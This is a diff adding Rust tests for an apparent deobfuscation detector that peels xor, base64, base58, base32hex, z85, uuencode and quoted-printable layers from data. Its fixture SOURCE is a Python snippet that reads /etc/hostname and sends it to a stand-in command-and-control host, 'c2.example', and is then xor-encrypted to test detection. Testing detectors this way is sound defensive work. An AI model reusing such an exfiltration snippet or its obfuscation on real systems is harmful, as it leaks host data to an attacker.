@@ -43,6 +43,44 @@ fn text_encodings() {
     assert_eq!(peeled(&wide).0, ["utf-16"]);
     assert_eq!(peeled(data_encoding::BASE64.encode(&wide).as_bytes()).0, ["base64", "utf-16"]);
     assert_eq!(peeled(&codec::xor(COMMAND.as_bytes(), 0xa7)).0, ["xor 0xa7"]);
+    let base58 = wb_testkit::encode(COMMAND.as_bytes(), "base58").expect("a known encoding");
+    assert_eq!(peeled(&base58), (vec!["base58".to_owned()], COMMAND.to_owned()));
+}
+
+const SOURCE: &str = "import os, socket\n\n\ndef report(host):\n    data = open('/etc/hostname').read()\n    \
+    connection = socket.create_connection((host, 443))\n    connection.sendall(data.encode())\n\n\n\
+    report('c2.example')\n";
+
+#[test]
+fn keys_that_repeat() {
+    for key in [&b"\xa7\x13"[..], b"\xff\x80\x91\xc4", b"\x90\xe1s3cret!\xb7"] {
+        let noise = codec::xor_with(SOURCE.as_bytes(), key);
+        let name: String = key.iter().map(|byte| format!("{byte:02x}")).collect();
+        assert_eq!(peeled(&noise), (vec![format!("xor 0x{name}")], SOURCE.to_owned()));
+        let base64 = data_encoding::BASE64.encode(&noise);
+        assert_eq!(peeled(base64.as_bytes()).0, ["base64".to_owned(), format!("xor 0x{name}")]);
+    }
+    // Numbers of all sizes, prose, and noise under a key stay what they are.
+    let small: Vec<u8> = (0..200_u64).flat_map(|one| (one * one).to_le_bytes()).collect();
+    let halves: Vec<u8> = (0..512_u16).flat_map(|one| (0x3800 + one).to_le_bytes()).collect();
+    let prose =
+        codec::xor_with("a model of words and of numbers. ".repeat(9).as_bytes(), b"\xa7\x13");
+    for data in [small, halves, prose] {
+        assert_eq!(peeled(&data).0, Vec::<String>::new());
+    }
+}
+
+#[test]
+fn what_is_written_in_other_ways() {
+    // base64.b32hexencode, base64.z85encode, binascii.b2a_uu and quopri.encodestring of the same.
+    let data = b"os.system('echo x')";
+    let base32 = codec::base32hex(b"DTPISSRPEDQ6AR984TIM6Q3F41S2EA8=");
+    assert_eq!(base32.as_deref(), Some(&data[..]));
+    assert_eq!(codec::z85(b"z/WKLD2[7sz73=yv}Y^6CQB{").as_deref(), Some(&data[..]));
+    assert_eq!(codec::uuencode(b"3;W,N<WES=&5M*\"=E8VAO('@G*0  \n").as_deref(), Some(&data[..]));
+    assert_eq!(codec::quoted_printable(b"os.system(=27echo=\n x=27)"), data);
+    assert_eq!(codec::base58(b"0OIl"), None);
+    assert_eq!(codec::base58(b"StV1DL6CwTryKyV").as_deref(), Some(&b"hello world"[..]));
 }
 
 #[test]
